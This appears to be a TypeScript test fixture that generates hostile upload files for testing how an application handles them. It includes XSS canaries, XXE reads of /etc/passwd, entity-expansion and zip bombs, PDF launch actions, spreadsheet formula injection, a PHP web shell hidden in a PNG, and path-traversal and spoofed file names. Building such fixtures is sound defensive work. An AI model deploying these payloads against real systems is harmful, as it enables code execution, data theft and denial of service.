import { deflateSync, gzipSync } from 'node:zlib'
import { aJpeg, aPng, aWebp } from '../images.ts'
import { aPhoto } from './pictures.ts'

export interface HostileFile {
  name: string
  bytes: Buffer
}

/** What a script does that has run anywhere: it asks for a page of ours that nobody else asks for, and speaks up. */
export const RUN = '/ran'
const script = `fetch('${RUN}');new Image().src='${RUN}';alert('ran');document.title='ran'`

const text = (name: string, content: string): HostileFile => ({ name, bytes: Buffer.from(content) })

const svg = (inside: string, more = '') =>
  `<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" ${more}>${inside}</svg>`

const pages: HostileFile[] = [
  text('page.html', `<script>${script}</script>`),
  text('page.htm', `<!doctype html><body onload="${script}">`),
  text(
    'page.xhtml',
    `<html xmlns="http://www.w3.org/1999/xhtml"><script>${script}</script></html>`,
  ),
  text('frame.html', `<iframe src="javascript:${script}"></iframe>`),
  text('refresh.html', `<meta http-equiv="refresh" content="0;url=${RUN}">`),
  text('object.html', `<object data="${RUN}"></object><embed src="${RUN}">`),
  text('form.html', `<form action="${RUN}" id=f></form><script>f.submit()</script>`),
  text(
    'mail.mhtml',
    `MIME-Version: 1.0\r\nContent-Type: text/html\r\n\r\n<script>${script}</script>`,
  ),
  text('app.hta', `<hta:application><script>${script}</script>`),
  { name: 'utf7.html', bytes: Buffer.from('+ADw-script+AD4-alert(1)+ADw-/script+AD4-') },
  { name: 'utf16.html', bytes: Buffer.from(`\ufeff<script>${script}</script>`, 'utf16le') },
]

const drawings: HostileFile[] = [
  text('script.svg', svg(`<script>${script}</script>`)),
  text('onload.svg', svg('', `onload="${script}"`)),
  text('animate.svg', svg(`<animate onbegin="${script}" attributeName="x" dur="1s"/>`)),
  text(
    'foreign.svg',
    svg(
      `<foreignObject><body xmlns="http://www.w3.org/1999/xhtml" onload="${script}"/></foreignObject>`,
    ),
  ),
  text('use.svg', svg(`<use xlink:href="${RUN}#x"/><image xlink:href="${RUN}"/>`)),
  text('link.svg', svg(`<a xlink:href="javascript:${script}"><text>x</text></a>`)),
  text(
    'entity.svg',
    `<!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]>${svg('<text>&x;</text>')}`,
  ),
  { name: 'packed.svgz', bytes: gzipSync(svg(`<script>${script}</script>`)) },
]

const documents: HostileFile[] = [
  text(
    'entities.xml',
    `<!DOCTYPE x [<!ENTITY a "ha">${'bcdefgh'
      .split('')
      .map((name, at) => `<!ENTITY ${name} "${`&${'abcdefg'[at]};`.repeat(10)}">`)
      .join('')}]><x>&h;</x>`,
  ),
  text('outside.xml', `<!DOCTYPE x [<!ENTITY % e SYSTEM "${RUN}">%e;]><x/>`),
  text('style.xml', `<?xml-stylesheet type="text/xsl" href="${RUN}"?><x/>`),
  text('script.xml', `<x><script xmlns="http://www.w3.org/1999/xhtml">${script}</script></x>`),
  text('feed.rss', `<rss><channel><link>javascript:${script}</link></channel></rss>`),
  text(
    'action.pdf',
    `%PDF-1.7\n1 0 obj<</Type/Catalog/OpenAction<</S/JavaScript/JS(app.alert\\('ran'\\))>>/Pages 2 0 R>>endobj\n2 0 obj<</Type/Pages/Kids[]/Count 0>>endobj\ntrailer<</Root 1 0 R>>\n%%EOF`,
  ),
  text(
    'launch.pdf',
    `%PDF-1.4\n1 0 obj<</Type/Catalog/OpenAction<</S/Launch/F(cmd.exe)>>>>endobj\ntrailer<</Root 1 0 R>>`,
  ),
  text(
    'uri.pdf',
    `%PDF-1.4\n1 0 obj<</Type/Catalog/OpenAction<</S/URI/URI(http://localhost${RUN})>>>>endobj\ntrailer<</Root 1 0 R>>`,
  ),
  text('page.pdf', `%PDF-1.4\n<html><script>${script}</script></html>`),
  text('formula.csv', `=HYPERLINK("http://x${RUN}","x"),+1+1,-1,@SUM(A1),\t=1\n`),
  text('calls.csv', `=cmd|' /C calc'!A0\n`),
  text('sync.slk', `ID;P\nC;X1;Y1;E"EXEC(""calc"")"`),
  text('shortcut.url', `[InternetShortcut]\nURL=javascript:${script}`),
  text('letter.rtf', `{\\rtf1{\\object\\objautlink\\objupdate{\\*\\objdata 0105}}}`),
]

const gif = Buffer.from(
  'GIF89a=1/*\x01\0\0\0\0,\0\0\0\0\x01\0\x01\0\0\x02\x02D\x01\0;*/;',
  'latin1',
)

const twofold = async (): Promise<HostileFile[]> => [
  { name: 'gif-and-script.gif', bytes: Buffer.concat([gif, Buffer.from(script)]) },
  text('looks-like.gif', `GIF89a<script>${script}</script>`),
  { name: 'jpeg-and-zip.jpg', bytes: Buffer.concat([await aPhoto(), zipOf('PK in a photo')]) },
  {
    name: 'jpeg-and-page.jpg',
    bytes: Buffer.concat([await aPhoto({ text: `<script>${script}</script>` })]),
  },
  {
    name: 'png-and-php.png',
    bytes: Buffer.concat([await aPhoto({ format: 'png' }), Buffer.from(`<?php system($_GET[0]);`)]),
  },
  {
    name: 'webp-and-page.webp',
    bytes: Buffer.concat([
      await aPhoto({ format: 'webp' }),
      Buffer.from(`<script>${script}</script>`),
    ]),
  },
  {
    name: 'bmp-and-script.bmp',
    bytes: Buffer.concat([Buffer.from('BM/*'), Buffer.alloc(60), Buffer.from(`*/=1;${script}`)]),
  },
  { name: 'page-as.jpg', bytes: Buffer.from(`<script>${script}</script>`) },
  { name: 'photo-as.html', bytes: await aPhoto() },
  {
    name: 'program.jpg',
    bytes: Buffer.concat([Buffer.from('MZ\x90\0', 'latin1'), Buffer.alloc(200)]),
  },
  { name: 'sniffed.txt', bytes: Buffer.from(`${' '.repeat(600)}<html><script>${script}</script>`) },
]

/** Each unpacks to far more than it is, to whoever unpacks it. */
const bombs = (): HostileFile[] => [
  { name: 'bomb.gz', bytes: gzipSync(Buffer.alloc(50_000_000)) },
  { name: 'bomb.zip', bytes: zipOf(Buffer.alloc(50_000_000)) },
  { name: 'bomb.docx', bytes: zipOf(Buffer.alloc(20_000_000), '[Content_Types].xml') },
  { name: 'flood.png', bytes: aPng(65_535, 65_535) },
  { name: 'flood.jpg', bytes: aJpeg(65_535, 65_535) },
  { name: 'flood.webp', bytes: aWebp(16_383, 16_383) },
  {
    name: 'flood.gif',
    bytes: Buffer.concat([
      Buffer.from('GIF89a\xff\xff\xff\xff\xf0\0\0', 'latin1'),
      Buffer.alloc(800),
    ]),
  },
]

const broken = async (): Promise<HostileFile[]> => {
  const photo = await aPhoto()
  const loop = Buffer.from('ffd8ffe10002'.padEnd(4 + 8 * 30_000, 'ffe10002'), 'hex')
  const heic = Buffer.concat([
    Buffer.from([0, 0, 0, 20]),
    Buffer.from('ftypheic\0\0\0\0mif1'),
    Buffer.from([0, 0, 0, 1]),
    Buffer.from('meta'),
    Buffer.alloc(8, 255),
  ])
  return [
    { name: 'cut.jpg', bytes: photo.subarray(0, 700) },
    { name: 'head.jpg', bytes: photo.subarray(0, 4) },
    { name: 'looping.jpg', bytes: loop },
    { name: 'looping.png', bytes: Buffer.concat([aPng().subarray(0, 33), Buffer.alloc(600_000)]) },
    { name: 'endless.heic', bytes: heic },
    { name: 'wide-text.jpg', bytes: await aPhoto({ text: 'A'.repeat(15_000) }) },
    { name: 'one-byte.jpg', bytes: Buffer.alloc(1) },
  ]
}

const named: HostileFile[] = [
  '../../../etc/passwd',
  '..\\..\\windows\\win.ini',
  '/etc/shadow',
  'a\0b.txt',
  'a\r\nSet-Cookie: x=1.txt',
  'invoice\u202Efdp.exe',
  '<img src=x onerror=alert(1)>.txt',
  '"; filename="x.html',
  '=HYPERLINK("x").csv',
  '\uFEFF\u200B\u2066name.txt',
  '%2e%2e%2fx.txt',
  `${'x'.repeat(4000)}.txt`,
].map((name) => text(name, 'nothing'))

/** Sixty files and more that mean harm, made here. */
export const hostileFiles = async (): Promise<HostileFile[]> => [
  ...pages,
  ...drawings,
  ...documents,
  ...(await twofold()),
  ...bombs(),
  ...(await broken()),
  ...named,
]

/** A ZIP of one file, packed. */
function zipOf(content: Buffer | string, name = 'x'): Buffer {
  const plain = Buffer.from(content)
  const packed = deflateSync(plain).subarray(2, -4)
  const head = Buffer.alloc(30)
  head.writeUInt32BE(0x504b0304)
  head.writeUInt16LE(20, 4)
  head.writeUInt16LE(8, 8)
  head.writeUInt32LE(packed.length, 18)
  head.writeUInt32LE(plain.length, 22)
  head.writeUInt16LE(name.length, 26)
  return Buffer.concat([head, Buffer.from(name), packed])
}
